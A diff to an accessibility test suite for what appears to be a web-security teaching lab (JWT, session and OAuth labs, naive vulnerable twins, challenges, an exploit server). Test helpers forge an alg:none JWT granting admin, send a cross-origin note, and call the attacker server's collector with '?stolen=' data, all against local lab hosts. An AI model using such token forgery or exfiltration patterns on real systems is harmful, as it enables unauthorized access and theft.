@@ -18,17 +18,22 @@ import os
 import re
 from collections.abc import Callable
 from dataclasses import dataclass
+from functools import cache
 from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
+import requests
 from playwright.sync_api import expect
 from werkzeug.exceptions import HTTPException
 
 from attacker import available_attacks
+from blueprints.challenges import all_challenges
 from blueprints.course.article import BY_SLUG
 from exercises import CATALOG
 from tests.conftest import PASSWORDS
+from tests.course.contrast import low_contrast_text
+from tests.course.network_quiet import NetworkQuiet
 
 pytestmark = pytest.mark.browser
 
@@ -57,6 +62,12 @@ def require_axe():
 LAYOUT_RULES = ["color-contrast", "scrollable-region-focusable", "meta-viewport", "region"]
 
 
+@cache
+def axe_source():
+    """axe-core's script, read once per process (half a megabyte)."""
+    return AXE.read_text()
+
+
 def axe_violations(page, rules=None):
     """axe-core's violations on the page as it is now, one readable line per element; only
     `rules` (rule ids) when given, else every rule of TAGS."""
@@ -65,7 +76,7 @@ def axe_violations(page, rules=None):
     # the DevTools protocol, which the CSP does not govern: the page keeps its real policy, and
     # the `page` fixture still fails the test on any CSP violation of the page's own scripts.
     if not page.evaluate("typeof window.axe === 'object'"):
-        page.evaluate(AXE.read_text())
+        page.evaluate(axe_source())
     only = {"type": "rule", "values": rules} if rules else {"type": "tag", "values": TAGS}
     results = page.evaluate("only => axe.run(document, {runOnly: only, resultTypes: ['violations']})", only)
     return [
@@ -77,12 +88,16 @@ def axe_violations(page, rules=None):
 
 
 def assert_accessible(page, name):
-    """No violation at either viewport; the message lists every one, per viewport."""
+    """No violation at either viewport; the message lists every one, per viewport.
+
+    Besides axe-core, every text's contrast is computed (contrast.py): axe skips the text it
+    cannot see, as in a closed <details> or a scroll box, and the walk found 1:1 text there.
+    """
     found = []
     for viewport, size in VIEWPORTS.items():
         page.set_viewport_size(size)
         rules = None if viewport == "desktop" else LAYOUT_RULES
-        found += [f"[{viewport}] {line}" for line in axe_violations(page, rules)]
+        found += [f"[{viewport}] {line}" for line in axe_violations(page, rules) + low_contrast_text(page)]
     assert not found, f"axe-core on {name} ({page.url}):\n" + "\n".join(found)
 
 
@@ -145,6 +160,40 @@ def to_jwt_signed_in(page, live):
     expect(page.locator("[data-inspect-result] [data-final]")).to_contain_text("Accepted")
 
 
+def to_workbench_verified(page, live):
+    """The token workbench after a generated ES256 key signed the example token and verified it."""
+    page.goto(live.app_url + "/jwt/workbench")
+    page.get_by_label("Algorithm (writes the header's alg)").select_option("ES256")
+    page.get_by_role("button", name="Generate a key for this algorithm").click()
+    expect(page.locator("[data-wb-sign-status]")).to_contain_text("A new ES256 key")
+    page.get_by_role("button", name="Sign", exact=True).click()
+    expect(page.locator("[data-wb-sign-status]")).to_contain_text("Signed with ES256")
+    page.get_by_role("button", name="Verify", exact=True).click()
+    expect(page.locator("[data-wb-app-final]")).to_be_visible()
+
+
+def to_jwt_bench_run(page, live):
+    """The JWT lab's attack bench after one attack: both verdicts, the forged tokens decoded."""
+    page.goto(live.app_url + "/jwt/")
+    page.locator('[data-attack-run="alg-none"]').click()
+    expect(page.locator('[data-forged="alg-none"] .forged-token').first).to_be_visible()
+
+
+def to_jwt_id_token_inspected(page, live):
+    """The provider's id_token opened in the JWT lab's inspector: refused, and why that is right."""
+    to_dance_done(page, live)
+    page.get_by_role("button", name="Open this id_token in the JWT lab's inspector").click()
+    expect(page.locator("[data-inspect-result] [data-lesson]")).to_be_visible()
+
+
+def to_oauth_bench_run(page, live):
+    """The OAuth attack bench after one run, its exchanges open on the run's wire panel."""
+    page.goto(live.app_url + "/vulnerable/oauth/")
+    page.locator("#code-replay").get_by_role("button", name="Run it against both").click()
+    page.locator("#code-replay details.bench-wire summary").click()
+    expect(page.locator("#code-replay .wire-item").first).to_be_visible()
+
+
 def to_session_signed_in(page, live):
     page.goto(live.app_url + "/session/")
     page.get_by_label("Password", exact=True).fill(PASSWORDS["alice"])
@@ -156,6 +205,27 @@ def to_session_signed_in(page, live):
 def to_account(page, live):
     to_session_signed_in(page, live)
     page.goto(live.app_url + "/account/password")
+
+
+def to_account_overview(page, live):
+    to_session_signed_in(page, live)
+    page.goto(live.app_url + "/account")
+
+
+def to_cross_site_refusal(page, live):
+    """The app's 400 page for a logout the attacker's site posted, the badges asked again."""
+    to_session_signed_in(page, live)
+    page.goto(live.attacker_url + "/attack/session-csrf")
+    page.locator('[data-attack="real-logout"]').click()
+    expect(page.locator('[data-whoami="session"]')).to_have_text("alice")
+
+
+def to_oauth_lab_revoked(page, live):
+    """The OAuth lab after "Revoke the grant": still signed in here, and why."""
+    to_dance_done(page, live)
+    page.get_by_role("button", name="Revoke the grant").click()
+    page.goto(live.app_url + "/oauth/")
+    expect(page.locator("[data-revoked-note]")).to_be_visible()
 
 
 def to_device_started(page, live):
@@ -206,6 +276,65 @@ def to_logged_out(page, live):
     expect(page.locator("main")).to_contain_text("signed out")
 
 
+def to_every_hint_shown(page, live):
+    """Exercise 1's page after climbing its whole hint ladder, one button press a hint."""
+    page.goto(live.app_url + f"/exercises/{CATALOG[0].slug}")
+    while page.get_by_role("button", name=re.compile(r"^Show hint")).count():
+        page.get_by_role("button", name=re.compile(r"^Show hint")).click()
+    expect(page.locator("[data-hints-all-shown]")).to_be_visible()
+
+
+def to_naive_session_planted_and_noted(page, live):
+    """The naive session twin's page after a planted id, alice's sign-in and a note from another site."""
+    page.goto(live.app_url + "/vulnerable/session/?sid=a11y-planted")
+    page.get_by_label("Password").fill(PASSWORDS["alice"])
+    page.get_by_role("button", name="Sign in to the naive twin").click()
+    note = live.app_url + "/vulnerable/session/note"
+    page.request.post(note, form={"note": "forged"}, headers={"Origin": live.attacker_url})
+    page.goto(live.app_url + "/vulnerable/session/")
+    expect(page.locator("[data-naive-note-origin]")).to_contain_text(live.attacker_url)
+
+
+def to_challenge_solved_with_every_step(page, live):
+    """A challenge solved from DevTools-style requests, every hint and the solution shown, the real attempt sent."""
+    import base64
+
+    def b64(value):
+        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
+
+    page.goto(live.app_url + "/challenges/jwt-alg-none")
+    pair = page.request.post(
+        live.app_url + "/vulnerable/jwt/login", data={"username": "bob", "password": PASSWORDS["bob"]}
+    ).json()
+    payload = json.loads(base64.urlsafe_b64decode(pair["access_token"].split(".")[1] + "=="))
+    forged = f"{b64({'alg': 'none'})}.{b64({**payload, 'role': 'admin'})}."
+    page.request.get(live.app_url + "/vulnerable/jwt/admin", headers={"Authorization": f"Bearer {forged}"})
+    page.reload()
+    while page.get_by_role("button", name=re.compile(r"^Show hint")).count():
+        page.get_by_role("button", name=re.compile(r"^Show hint")).click()
+    page.get_by_role("button", name="Show the solution").click()
+    page.get_by_role("button", name="Yes, show the solution").click()
+    page.get_by_role("button", name="Send the same attack to the real code").click()
+    expect(page.locator("#real")).to_contain_text("refused")
+
+
+def to_victim_visited(page, live):
+    """A challenge's page after the victim bot's visit: the table of what her browser did."""
+    page.goto(live.app_url + "/challenges/session-guess-id")
+    page.get_by_role("button", name="Let the victim sign in").click(timeout=60_000)
+    expect(page.locator(".victim-hops")).to_be_visible(timeout=60_000)
+
+
+def to_exploit_stored_and_collected(page, live):
+    """The exploit server's editor after storing a page and one request to its collector."""
+    page.goto(live.attacker_url + "/exploit")
+    page.get_by_role("button", name="Store the page").click()
+    collector = page.locator("#collector-address").inner_text().removesuffix("?…")
+    requests.get(collector + "?stolen=a11y", timeout=10)  # Python resolves attacker.localhost here (conftest)
+    page.reload()
+    expect(page.locator(".collector-log")).to_contain_text("stolen=a11y")
+
+
 @dataclass(frozen=True)
 class Visit:
     """A page as a student reaches it: at `path` of `party`, after `steps` when given."""
@@ -220,12 +349,27 @@ class Visit:
         return getattr(live, f"{self.party}_url") + self.path
 
 
+def to_naive_notes_with_a_note(page, live):
+    """The naive notes app signed in as bob, a note of his on the board."""
+    page.goto(live.app_url + "/vulnerable/jwt/notes")
+    page.get_by_label("Username").fill("bob")
+    page.get_by_label("Password").fill(PASSWORDS["bob"])
+    page.get_by_role("button", name="Sign in to the naive notes").click()
+    expect(page.locator("[data-notes-signed-in]")).to_be_visible()
+    page.get_by_label("Your note (sent with your token)").fill("<b>Hello</b> from bob")
+    page.get_by_role("button", name="Post the note").click()
+    expect(page.locator(".note-text")).to_contain_text("Hello from bob")
+
+
 APP = [
     Visit("home", "app", "/"),
     Visit("signup", "app", "/signup"),
-    Visit("account (signed in)", "app", "/account/password", to_account),
+    Visit("account (signed out)", "app", "/account"),
+    Visit("account (signed in)", "app", "/account", to_account_overview),
+    Visit("password change (signed in)", "app", "/account/password", to_account),
     # The three labs, and the OAuth lab's other pages.
     Visit("jwt lab", "app", "/jwt/"),
+    Visit("jwt workbench", "app", "/jwt/workbench"),
     Visit("session lab", "app", "/session/"),
     Visit("oauth lab", "app", "/oauth/"),
     Visit("oauth dance (nothing yet)", "app", "/oauth/dance"),
@@ -240,6 +384,7 @@ APP = [
     Visit("compare", "app", "/compare"),
     Visit("exercises", "app", "/exercises"),
     *[Visit(f"exercise {exercise.slug}", "app", f"/exercises/{exercise.slug}") for exercise in CATALOG],
+    Visit("exercise 1, every hint shown", "app", f"/exercises/{CATALOG[0].slug}", to_every_hint_shown),
     Visit("checklist", "app", "/checklist"),
     Visit("bench", "app", "/bench"),
     Visit("source index", "app", "/source/"),
@@ -251,9 +396,15 @@ APP = [
     Visit("error 401 (jwt admin, signed out)", "app", "/jwt/admin", status=401),
     Visit("error 404", "app", "/no-such-page", status=404),
     Visit("oauth callback refused", "app", "/oauth/callback?state=forged&code=x", status=400),
+    Visit("cross-site logout refused", "app", "/session/logout", to_cross_site_refusal),
     # The naive twins' pages.
     Visit("naive oauth bench", "app", "/vulnerable/oauth/"),
     Visit("naive session", "app", "/vulnerable/session/"),
+    Visit("naive jwt notes", "app", "/vulnerable/jwt/notes"),
+    # The challenges: the list, the progress page, each challenge as a student first meets it.
+    Visit("challenges", "app", "/challenges"),
+    Visit("progress", "app", "/progress"),
+    *[Visit(f"challenge {cid}", "app", f"/challenges/{cid}") for cid in all_challenges()],
 ]
 
 PROVIDER = [
@@ -275,16 +426,39 @@ PROVIDER = [
 
 ATTACKER = [
     Visit("attacker index", "attacker", "/"),
+    Visit("exploit server", "attacker", "/exploit"),
     *[Visit(f"attacker {name}", "attacker", f"/attack/{name}") for name in available_attacks()],
 ]
 
 # The pages that change most with a student's clicks, checked again in that state.
 AFTER_INTERACTION = [
     Visit("jwt lab signed in", "app", "/jwt/", to_jwt_signed_in),
+    Visit("jwt lab, an attack sent from the bench", "app", "/jwt/", to_jwt_bench_run),
+    Visit("jwt lab, the provider's id_token inspected", "app", "/jwt/inspect", to_jwt_id_token_inspected),
+    Visit("naive oauth bench, an attack run", "app", "/vulnerable/oauth/", to_oauth_bench_run),
+    Visit("jwt workbench signed and verified", "app", "/jwt/workbench", to_workbench_verified),
     Visit("session lab signed in", "app", "/session/", to_session_signed_in),
     Visit("oauth dance paused at step 1", "app", "/oauth/dance", to_dance_paused),
     Visit("oauth dance completed", "app", "/oauth/dance", to_dance_done),
+    Visit("oauth lab after a revocation", "app", "/oauth/", to_oauth_lab_revoked),
     Visit("oauth device started", "app", "/oauth/device", to_device_started),
+    Visit(
+        "naive session, planted id and a note from another site",
+        "app",
+        "/vulnerable/session/",
+        to_naive_session_planted_and_noted,
+    ),
+    Visit("naive jwt notes, signed in with a note", "app", "/vulnerable/jwt/notes", to_naive_notes_with_a_note),
+    Visit(
+        "challenge solved, every hint, the solution and the real attempt",
+        "app",
+        "/challenges/jwt-alg-none",
+        to_challenge_solved_with_every_step,
+    ),
+    Visit("challenge after the victim's visit", "app", "/challenges/session-guess-id", to_victim_visited),
+    Visit(
+        "exploit server, a page stored and a request collected", "attacker", "/exploit", to_exploit_stored_and_collected
+    ),
 ]
 
 VISITS = APP + PROVIDER + ATTACKER + AFTER_INTERACTION
@@ -294,6 +468,7 @@ NOT_PAGES = {
     "app": {
         "static": "files, not pages",
         "pages.healthz": "JSON for a load balancer",
+        "pages.whoami": "JSON for the header's script",
         "jwt.jwks": "JSON (a JWKS)",
         "jwt.keyring": "JSON for the lab page's script",
         "jwt.protected": "JSON when signed in; signed out, the 401 page checked at /jwt/admin",
@@ -314,6 +489,7 @@ NOT_PAGES = {
         "naive_jwt.protected": "JSON",
         "naive_jwt.public_pem": "a PEM file",
         "jwt_bench.wordlist": "a text file",
+        "naive_jwt_refresh.debug_log": "a text file (the naive server's leaked debug log)",
         "naive_oauth.login": "a redirect to the provider's naive endpoint",
         "naive_oauth.callback": "a redirect once signed in; a bad callback is the 401 page's template",
         "naive_oauth.protected": "JSON",
@@ -325,8 +501,14 @@ NOT_PAGES = {
         "provider.discovery": "JSON (metadata)",
         "provider.userinfo": "JSON",
         "naive_provider.token_for_another_app": "JSON",
+        "naive_provider.jwks": "JSON (the naive twin's own JWKS)",
     },
-    "attacker": {"static": "files, not pages"},
+    "attacker": {
+        "static": "files, not pages",
+        "exploits.hosted": "the student's own attack page, whatever they wrote",
+        "exploits.collect": "the collector: an empty 204",
+        "exploits.log_json": "JSON",
+    },
 }
 
 
@@ -344,12 +526,13 @@ def test_axe_core_finds_nothing(lab_clients, page, visit):
     require_axe()
     live = lab_clients
     page.set_viewport_size(VIEWPORTS["desktop"])
+    quiet = NetworkQuiet(page)
     if visit.steps is None:
         response = page.goto(visit.url(live))
         assert response.status == visit.status, visit.url(live)
     else:
         visit.steps(page, live)
-    page.wait_for_load_state("networkidle")
+    quiet.wait()  # the page's scripts have fetched what they show
     assert_accessible(page, visit.name)
 
 
